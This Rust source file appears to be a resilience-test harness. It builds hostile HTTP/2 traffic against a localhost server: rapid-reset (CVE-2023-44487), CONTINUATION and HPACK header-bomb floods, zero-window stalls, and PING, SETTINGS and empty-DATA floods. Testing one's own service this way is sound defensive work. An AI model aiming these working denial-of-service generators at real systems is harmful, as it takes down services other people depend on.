//! Hostile callers that speak HTTP/2, frame by frame (RFC 9113).

use super::callers::Aim;
use crate::stage::LOW;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `:method GET`, `:scheme http`, by their numbers in the static table (RFC 7541, appendix A).
const GET: [u8; 2] = [0x82, 0x86];
const POST: [u8; 2] = [0x83, 0x86];

/// A frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A header whose name has a number in the static table, as plain text that the other side does not remember.
fn header(name: u8, value: &str) -> Vec<u8> {
    let mut bytes = vec![name, u8::try_from(value.len()).unwrap()];
    bytes.extend(value.as_bytes());
    bytes
}

/// The headers of a request.
fn block(method: [u8; 2], path: &str) -> Vec<u8> {
    let mut bytes = method.to_vec();
    bytes.extend(header(0x04, path));
    bytes.extend(header(0x01, "localhost"));
    // `authorization` is number 23: 15 and 8 more.
    bytes.extend([0x0f, 0x08]);
    let value = format!("Bearer {LOW}");
    bytes.push(u8::try_from(value.len()).unwrap());
    bytes.extend(value.as_bytes());
    bytes
}

/// How a connection begins; the settings are numbers and values.
fn preface(settings: &[(u16, u32)]) -> Vec<u8> {
    let mut payload = Vec::new();
    for (number, value) in settings {
        payload.extend(number.to_be_bytes());
        payload.extend(value.to_be_bytes());
    }
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &payload));
    bytes
}

/// The number of a stream that is opened as the `count`th.
fn stream(count: usize) -> u32 {
    (u32::try_from(count).unwrap() * 2 + 1) & 0x7fff_ffff
}

/// Block after block over a few connections; each gets the number of its streams.
async fn flood(aim: Aim, settings: &[(u16, u32)], make: fn(usize) -> Vec<u8>) {
    let first = preface(settings);
    let each = async |number: usize| aim.pour(number, &first, make).await;
    futures::future::join_all((0..4).map(each)).await;
}

/// Requests that are taken back at once (CVE-2023-44487).
pub async fn rapid_reset(aim: Aim) {
    flood(aim, &[], |count| {
        let open = |each| {
            let id = stream(count * 100 + each);
            let mut bytes = frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                id,
                &block(GET, "/openapi.json"),
            );
            bytes.extend(frame(RST_STREAM, 0, id, &[0, 0, 0, 8]));
            bytes
        };
        (0..100).flat_map(open).collect()
    })
    .await;
}

/// Calls that are taken back at once.
pub async fn rapid_reset_calls(aim: Aim) {
    flood(aim, &[], |count| {
        let open = |each| {
            let id = stream(count * 20 + each);
            let mut bytes = frame(HEADERS, END_HEADERS, id, &block(POST, "/hostile/slow"));
            bytes.extend(frame(DATA, END_STREAM, id, br#"{"seconds":30}"#));
            bytes.extend(frame(RST_STREAM, 0, id, &[0, 0, 0, 8]));
            bytes
        };
        (0..20).flat_map(open).collect()
    })
    .await;
}

/// Documents are asked for over many streams with a window of no bytes.
pub async fn closed_windows(aim: Aim) {
    // Setting 4 is SETTINGS_INITIAL_WINDOW_SIZE.
    flood(aim, &[(4, 0)], |count| {
        let open = |each| {
            frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                stream(count * 50 + each),
                &block(GET, "/openapi.json"),
            )
        };
        (0..50).flat_map(open).collect()
    })
    .await;
}

/// Windows of a byte at a time, for large answers.
pub async fn tiny_windows(aim: Aim) {
    flood(aim, &[(4, 1)], |count| {
        let id = stream(count * 2);
        let mut bytes = frame(HEADERS, END_HEADERS, id, &block(POST, "/hostile/large"));
        bytes.extend(frame(DATA, END_STREAM, id, br#"{"bytes":5000000}"#));
        bytes.extend(frame(WINDOW_UPDATE, 0, id, &[0, 0, 0, 1]).repeat(500));
        bytes
    })
    .await;
}

/// Headers that never end (CVE-2024-27316).
pub async fn continuation(aim: Aim) {
    flood(aim, &[], |count| {
        let text = "x".repeat(100);
        if count % 1000 == 1 {
            return frame(HEADERS, 0, stream(count), &block(GET, "/health"));
        }
        frame(
            CONTINUATION,
            0,
            stream(1),
            &[vec![0x00, 0x01, b'x'], header(0, &text)[1..].to_vec()]
                .concat()
                .repeat(100),
        )
    })
    .await;
}

/// A header that is told once and repeated by its number (CVE-2016-6581).
pub async fn header_bomb(aim: Aim) {
    flood(aim, &[], |count| {
        let mut bytes = block(GET, "/health");
        // Indexed: `x` with a value of 3,800 bytes, then sixteen thousand times the same by number 62.
        bytes.extend([0x40, 0x01, b'x', 0x7f, 0xd9, 0x1c]);
        bytes.extend(vec![b'b'; 3_800]);
        bytes.extend(vec![0xbe; 12_000]);
        frame(HEADERS, END_HEADERS | END_STREAM, stream(count), &bytes)
    })
    .await;
}

/// Pings.
pub async fn pings(aim: Aim) {
    flood(aim, &[], |_| frame(PING, 0, 0, &[7; 8]).repeat(2_000)).await;
}

/// Settings.
pub async fn settings(aim: Aim) {
    flood(aim, &[], |count| {
        let size = 16_384 + u32::try_from(count % 1000).unwrap();
        let mut payload = 4_u16.to_be_bytes().to_vec();
        payload.extend(size.to_be_bytes());
        frame(SETTINGS, 0, 0, &payload).repeat(1_000)
    })
    .await;
}

/// Data without bytes, without end.
pub async fn empty_data(aim: Aim) {
    flood(aim, &[], |count| {
        if count % 10_000 == 1 {
            return frame(
                HEADERS,
                END_HEADERS,
                stream(0),
                &block(POST, "/healthy/echo"),
            );
        }
        frame(DATA, 0, stream(0), &[]).repeat(1_000)
    })
    .await;
}

/// Bodies over many streams, none of which ends.
pub async fn open_bodies(aim: Aim) {
    flood(aim, &[], |count| {
        let open = |each| {
            let id = stream(count * 50 + each);
            let mut bytes = frame(HEADERS, END_HEADERS, id, &block(POST, "/healthy/echo"));
            bytes.extend(frame(DATA, 0, id, &[b' '; 500]));
            bytes
        };
        (0..50).flat_map(open).collect()
    })
    .await;
}
